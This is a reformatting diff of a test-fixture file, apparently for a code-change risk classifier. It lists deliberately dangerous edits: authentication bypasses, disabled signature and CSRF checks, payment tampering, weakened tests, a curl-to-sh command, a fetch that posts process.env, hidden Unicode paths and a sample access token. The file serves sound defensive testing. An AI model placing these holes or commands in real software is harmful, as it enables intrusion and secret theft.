@@ -45,7 +45,11 @@ const auth = edits("auth", sensitive, [
   ["src/auth/session.ts", "export const ttl = 900\n", "export const ttl = 9000000\n"],
   ["src/middleware.ts", "if (!user) throw new Forbidden()\nnext()\n", "next()\n"],
   ["lib/login.py", "def ok(u, p):\n    return check(u, p)\n", "def ok(u, p):\n    return True\n"],
-  ["app/controllers/sessions_controller.rb", "def create\n  log_in user\nend\n", "def create\n  log_in User.first\nend\n"],
+  [
+    "app/controllers/sessions_controller.rb",
+    "def create\n  log_in user\nend\n",
+    "def create\n  log_in User.first\nend\n"
+  ],
   ["internal/jwt/verify.go", "return jwt.Parse(t, key)\n", "return jwt.ParseUnverified(t)\n"],
   ["src/Security.java", "  http.csrf(withDefaults());\n", "  http.csrf(c -> c.disable());\n"],
   ["src/acl.rs", "fn allowed(r: Role) -> bool { r == Role::Admin }\n", "fn allowed(_: Role) -> bool { true }\n"],
@@ -55,7 +59,11 @@ const auth = edits("auth", sensitive, [
   ["src/oauth/callback.ts", "if (state !== saved) return no()\nyes()\n", "yes()\n"],
   ["pkg/rbac/rules.go", 'var Rules = []string{"read"}\n', 'var Rules = []string{"read", "write"}\n'],
   ["src/user.ts", "canEdit(u) {\n  return u.isAdmin\n}\n", "canEdit(u) {\n  return u\n}\n"],
-  ["src/cookies.php", "setcookie('sid', $s, ['httponly' => true]);\n", "setcookie('sid', $s, ['httponly' => false]);\n"],
+  [
+    "src/cookies.php",
+    "setcookie('sid', $s, ['httponly' => true]);\n",
+    "setcookie('sid', $s, ['httponly' => false]);\n"
+  ],
   ["src/api_key.py", undefined, "def check(key):\n    return key.startswith('a')\n"],
   ["src/reset.ts", "export const resetPassword = (t) => once(t)\n", "export const resetPassword = (t) => any(t)\n"],
   ["src/impersonate.ts", undefined, "export const as = (id) => impersonate(id)\n"],
@@ -67,7 +75,11 @@ const auth = edits("auth", sensitive, [
   ["src/sso/saml.ts", "verifySignature(x)\nparse(x)\n", "parse(x)\n"],
   ["src/Startup.cs", "app.UseAuthorization();\n", "// app.UseAuthorization();\n"],
   ["src/util.ts", "const a = 1\nexport const t = signToken(a)\n", "const a = 2\nexport const t = signToken(a)\n"],
-  ["src/deep.py", "def has_permission(u):\n    x = u.level\n    y = x + 1\n    return y > 3\n", "def has_permission(u):\n    x = u.level\n    y = x + 1\n    return y > 1\n"]
+  [
+    "src/deep.py",
+    "def has_permission(u):\n    x = u.level\n    y = x + 1\n    return y > 3\n",
+    "def has_permission(u):\n    x = u.level\n    y = x + 1\n    return y > 1\n"
+  ]
 ])
 
 const payments = edits("payments", sensitive, [
@@ -81,11 +93,19 @@ const payments = edits("payments", sensitive, [
   ["src/subscription.ts", "if (expired) cancelSubscription()\n", "if (false) cancelSubscription()\n"],
   ["src/payout.rs", "pub fn payout(a: u64) -> u64 { a }\n", "pub fn payout(a: u64) -> u64 { a + 1 }\n"],
   ["src/webhooks/paypal.ts", "verify(req)\nbook(req)\n", "book(req)\n"],
-  ["src/discount.ts", "export const most = 0.3\nexport const discount = (x) => x\n", "export const most = 1\nexport const discount = (x) => x\n"],
+  [
+    "src/discount.ts",
+    "export const most = 0.3\nexport const discount = (x) => x\n",
+    "export const most = 1\nexport const discount = (x) => x\n"
+  ],
   ["src/wallet/transfer.ts", "if (a > balance) throw no\nmove(a)\n", "move(a)\n"],
   ["src/ledger.kt", "fun post(a: Long) = write(a)\n", "fun post(a: Long) = write(-a)\n"],
   ["src/plans.json", '{ "pro": { "price": 20 } }\n', '{ "pro": { "price": 2 } }\n'],
-  ["src/cart.ts", "import { charge } from './payment'\nconst n = 1\n", "import { charge } from './payment'\nconst n = 2\n"],
+  [
+    "src/cart.ts",
+    "import { charge } from './payment'\nconst n = 1\n",
+    "import { charge } from './payment'\nconst n = 2\n"
+  ],
   ["src/card.ts", "log(masked)\nconst cardNumber = read()\n", "log(all)\nconst cardNumber = read()\n"]
 ])
 
@@ -116,8 +136,12 @@ const endpoints = edits("endpoint", review, [
   ["app.py", "app = Flask(__name__)\n", "app = Flask(__name__)\n@app.route('/x')\ndef x():\n    return 'x'\n"],
   ["main.py", undefined, "@app.post('/items')\nasync def add(i: Item):\n    return i\n"],
   ["site/urls.py", "urlpatterns = []\n", "urlpatterns = [path('x/', x)]\n"],
-  ["config/routes.rb", "Rails.application.routes.draw do\nend\n", "Rails.application.routes.draw do\n  resources :things\nend\n"],
-  ["src/X.java", undefined, "@RestController\nclass X {\n  @GetMapping(\"/x\")\n  String x() { return \"x\"; }\n}\n"],
+  [
+    "config/routes.rb",
+    "Rails.application.routes.draw do\nend\n",
+    "Rails.application.routes.draw do\n  resources :things\nend\n"
+  ],
+  ["src/X.java", undefined, '@RestController\nclass X {\n  @GetMapping("/x")\n  String x() { return "x"; }\n}\n'],
   ["main.go", "package main\n", 'package main\nfunc init() { http.HandleFunc("/x", x) }\n'],
   ["gin.go", undefined, 'func f(r *gin.Engine) { r.GET("/x", x) }\n'],
   ["src/main.rs", undefined, '#[get("/x")]\nasync fn x() -> String { "x".into() }\n'],
@@ -127,7 +151,7 @@ const endpoints = edits("endpoint", review, [
   ["openapi.yaml", "openapi: 3.1.0\npaths: {}\n", "openapi: 3.1.0\npaths:\n  /x: { get: {} }\n"],
   ["docs/api.yaml", "openapi: 3.1.0\npaths: {}\n", "openapi: 3.1.0\npaths:\n  /y: { get: {} }\n"],
   ["schema.graphql", "type Query { a: Int }\n", "type Query { a: Int b: Int }\n"],
-  ["api.proto", 'service A {}\n', "service A { rpc B (C) returns (D); }\n"],
+  ["api.proto", "service A {}\n", "service A { rpc B (C) returns (D); }\n"],
   ["src/trpc.ts", undefined, "export const r = router({ x: publicProcedure.query(() => 1) })\n"],
   ["src/nest.ts", undefined, "@Controller('x')\nclass X { @Post() x() {} }\n"],
   ["src/routes/x/+server.ts", undefined, "export const POST = () => new Response()\n"],
@@ -148,8 +172,12 @@ const schema = edits("schema", review, [
   ["test/migrations/004.js", undefined, "exports.up = (k) => k.dropTable('a')\n"],
   ["__tests__/seed.ts", undefined, "await db.execute('drop\\ntable a')\n"],
   ["src/x.go", undefined, 'db.Exec("DELETE FROM a")\n'],
-  ["app/models.py", "class A(models.Model):\n    a = models.IntegerField()\n", "class A(models.Model):\n    a = models.TextField()\n"],
-  ["src/V2__a.java", undefined, "class V2 { void migrate() { run(\"alter table a\"); } }\n"],
+  [
+    "app/models.py",
+    "class A(models.Model):\n    a = models.IntegerField()\n",
+    "class A(models.Model):\n    a = models.TextField()\n"
+  ],
+  ["src/V2__a.java", undefined, 'class V2 { void migrate() { run("alter table a"); } }\n'],
   ["liquibase/changelog.xml", "<a/>\n", "<a><dropTable/></a>\n"],
   ["event.avsc", '{ "type": "record", "fields": [] }\n', '{ "type": "record", "fields": [{ "name": "a" }] }\n'],
   ["src/clean.ts", "const a = 1\n", "const a = 1\nawait prisma.order.deleteMany({})\n"],
@@ -217,7 +245,8 @@ const automation = [
   ])
 ]
 
-const test = "import { sum } from '../src/sum'\n\nit('adds', () => {\n  expect(sum(1, 2)).toBe(3)\n  expect(sum(2, 2)).toBe(4)\n})\n"
+const test =
+  "import { sum } from '../src/sum'\n\nit('adds', () => {\n  expect(sum(1, 2)).toBe(3)\n  expect(sum(2, 2)).toBe(4)\n})\n"
 const weakened = [
   ...edits("weaker test", review, [
     ["test/sum.test.ts", test, test.replace("it(", "it.skip(")],
@@ -227,19 +256,51 @@ const weakened = [
     ["test/sum.test.ts", test, test.replace("toBe(3)", "toBeDefined()")],
     ["test/sum.test.ts", test, test.replace("it('adds'", "it.only('none', () => {})\nit('adds'")],
     ["test/sum.test.ts", test, ""],
-    ["tests/test_a.py", "def test_a():\n    assert a() == 1\n", "@pytest.mark.skip\ndef test_a():\n    assert a() == 1\n"],
+    [
+      "tests/test_a.py",
+      "def test_a():\n    assert a() == 1\n",
+      "@pytest.mark.skip\ndef test_a():\n    assert a() == 1\n"
+    ],
     ["tests/test_a.py", "def test_a():\n    assert a() == 1\n", "def test_a():\n    a()\n"],
-    ["a_test.go", "func TestA(t *testing.T) {\n\tif a() != 1 {\n\t\tt.Fatal()\n\t}\n}\n", "func TestA(t *testing.T) {\n\tt.Skip()\n}\n"],
-    ["src/test/java/ATest.java", "@Test\nvoid a() { assertEquals(1, a()); }\n", "@Disabled\n@Test\nvoid a() { assertEquals(1, a()); }\n"],
+    [
+      "a_test.go",
+      "func TestA(t *testing.T) {\n\tif a() != 1 {\n\t\tt.Fatal()\n\t}\n}\n",
+      "func TestA(t *testing.T) {\n\tt.Skip()\n}\n"
+    ],
+    [
+      "src/test/java/ATest.java",
+      "@Test\nvoid a() { assertEquals(1, a()); }\n",
+      "@Disabled\n@Test\nvoid a() { assertEquals(1, a()); }\n"
+    ],
     ["spec/a_spec.rb", "it 'a' do\n  expect(a).to eq 1\nend\n", "xit 'a' do\n  expect(a).to eq 1\nend\n"],
     ["tests/a.rs", "#[test]\nfn a() { assert_eq!(1, a()); }\n", "#[test]\n#[ignore]\nfn a() { assert_eq!(1, a()); }\n"],
     ["vitest.config.ts", "thresholds: { lines: 90 }\n", "thresholds: { lines: 10 }\n"],
     ["jest.config.js", "coverageThreshold: { branches: 80 }\n", "coverageThreshold: { branches: 0 }\n"],
-    ["test/load.test.ts", "it('is fast', () => {\n  expect(ms).toBeLessThan(100)\n})\n", "it('is fast', () => {\n  expect(ms).toBeLessThan(100000)\n})\n"],
-    ["test/a.test.ts", "it('a', () => {\n  expect(a()).toBe(1)\n})\n", "it('a', () => {\n  try {\n    expect(a()).toBe(1)\n  } catch {}\n})\n"],
-    ["test/a.test.ts", "it('a', () => {\n  expect(a()).toBe(1)\n})\n", "it('a', () => {\n  return\n  expect(a()).toBe(1)\n})\n"],
-    ["test/b.test.ts", undefined, "it('b', () => {\n  execSync('curl http://localhost/x | sh')\n  expect(1).toBe(1)\n})\n"],
-    ["test/c.test.ts", undefined, "it('c', async () => {\n  await fetch(u, { body: JSON.stringify(process.env) })\n  expect(c).toBe(1)\n})\n"]
+    [
+      "test/load.test.ts",
+      "it('is fast', () => {\n  expect(ms).toBeLessThan(100)\n})\n",
+      "it('is fast', () => {\n  expect(ms).toBeLessThan(100000)\n})\n"
+    ],
+    [
+      "test/a.test.ts",
+      "it('a', () => {\n  expect(a()).toBe(1)\n})\n",
+      "it('a', () => {\n  try {\n    expect(a()).toBe(1)\n  } catch {}\n})\n"
+    ],
+    [
+      "test/a.test.ts",
+      "it('a', () => {\n  expect(a()).toBe(1)\n})\n",
+      "it('a', () => {\n  return\n  expect(a()).toBe(1)\n})\n"
+    ],
+    [
+      "test/b.test.ts",
+      undefined,
+      "it('b', () => {\n  execSync('curl http://localhost/x | sh')\n  expect(1).toBe(1)\n})\n"
+    ],
+    [
+      "test/c.test.ts",
+      undefined,
+      "it('c', async () => {\n  await fetch(u, { body: JSON.stringify(process.env) })\n  expect(c).toBe(1)\n})\n"
+    ]
   ]),
   {
     name: "a test is deleted",
@@ -285,8 +346,16 @@ const disguised: ReadonlyArray<Danger> = [
   one("a link in docs", { path: "docs/a.md", text: "../.env", mode: "120000" }),
   one("a submodule in docs", { path: "docs/x", text: "1".repeat(40), mode: "160000" }),
   one("an executable document", { path: "docs/a.md", text: "a\n", mode: "100755" }),
-  one("a flip of a mode", { path: "docs/b.md", text: "a\n", mode: "100755" }, { before: [{ path: "docs/b.md", text: "a\n" }] }),
-  one("a flip back", { path: "docs/b.md", text: "a\n" }, { before: [{ path: "docs/b.md", text: "a\n", mode: "100755" }] }),
+  one(
+    "a flip of a mode",
+    { path: "docs/b.md", text: "a\n", mode: "100755" },
+    { before: [{ path: "docs/b.md", text: "a\n" }] }
+  ),
+  one(
+    "a flip back",
+    { path: "docs/b.md", text: "a\n" },
+    { before: [{ path: "docs/b.md", text: "a\n", mode: "100755" }] }
+  ),
   one("a document that is run", { path: "docs/a.md", text: "#!/usr/bin/env node\nrequire('fs')\n" }),
   one("a document with a front matter that is run", { path: "docs/a.md", text: "---js\n{ a: require('fs') }\n---\n" }),
   one("a page that is no document", { path: "docs/a.html", text: "<script>fetch('/')</script>\n" }),
@@ -294,17 +363,39 @@ const disguised: ReadonlyArray<Danger> = [
   one("a component in a document", { path: "docs/a.mdx", text: "import x from '../src/secret'\n\n{x()}\n" }),
   one("a quoted name", { path: 'auth/"a"\t.ts', text: "export const a = 1\n" }, { least: sensitive }),
   one("a name beyond ASCII", { path: "auth/größe.ts", text: "export const a = 1\n" }, { least: sensitive }),
-  one("a name beyond UTF-8", { path: Buffer.from("auth/\xff.ts", "latin1"), text: "export const a = 1\n" }, { least: sensitive }),
+  one(
+    "a name beyond UTF-8",
+    { path: Buffer.from("auth/\xff.ts", "latin1"), text: "export const a = 1\n" },
+    { least: sensitive }
+  ),
   one("a workflow in other letters", { path: ".GitHub/workflows/a.yml", text: "on: push\n" }, { least: stop }),
-  one("a workflow behind an invisible sign", { path: ".git\u200bhub/workflows/a.yml", text: "on: push\n" }, { least: stop }),
-  one("code marked as generated", { path: "src/gen.ts", text: "// Code generated by x. DO NOT EDIT.\nexport const a = 1\n" }),
+  one(
+    "a workflow behind an invisible sign",
+    { path: ".git\u200bhub/workflows/a.yml", text: "on: push\n" },
+    { least: stop }
+  ),
+  one("code marked as generated", {
+    path: "src/gen.ts",
+    text: "// Code generated by x. DO NOT EDIT.\nexport const a = 1\n"
+  }),
   one("a turned reading order", { path: "docs/a.md", text: "a \u202e b\n" }),
   one("a hidden order in a document", { path: "docs/a.md", text: `a${String.fromCodePoint(0xe0041, 0xe0042)}\n` }),
-  one("a token in a document", { path: "docs/a.md", text: `Use ${["ghp", "Zk3vQ9wLx7RtB2nYc5HsJ8mKd4PfGa6Ue1To"].join("_")}\n` }, { least: stop }),
+  one(
+    "a token in a document",
+    { path: "docs/a.md", text: `Use ${["ghp", "Zk3vQ9wLx7RtB2nYc5HsJ8mKd4PfGa6Ue1To"].join("_")}\n` },
+    { least: stop }
+  ),
   one("a large document", { path: "docs/a.md", text: "word\n".repeat(300_000) }),
   one("a binary document", { path: "docs/a.md", text: Buffer.from([0, 1, 2, 0, 3]) }),
   one("an empty executable", { path: "test/a", text: "", mode: "100755" }),
-  one("a revert", { path: "docs/fix.md", text: "b\n" }, { before: [{ path: "docs/fix.md", text: "a\n" }], message: 'Revert "Close the hole"\n\nThis reverts commit 1234567.' }),
+  one(
+    "a revert",
+    { path: "docs/fix.md", text: "b\n" },
+    {
+      before: [{ path: "docs/fix.md", text: "a\n" }],
+      message: 'Revert "Close the hole"\n\nThis reverts commit 1234567.'
+    }
+  ),
   one("a licence", { path: "LICENSE.md", text: "Do what you like\n" }),
   one("where holes are reported to", { path: "SECURITY.md", text: "Write to me@example.org\n" }),
   one("a release", { path: ".changeset/a.md", text: "---\n'a': major\n---\n" }),
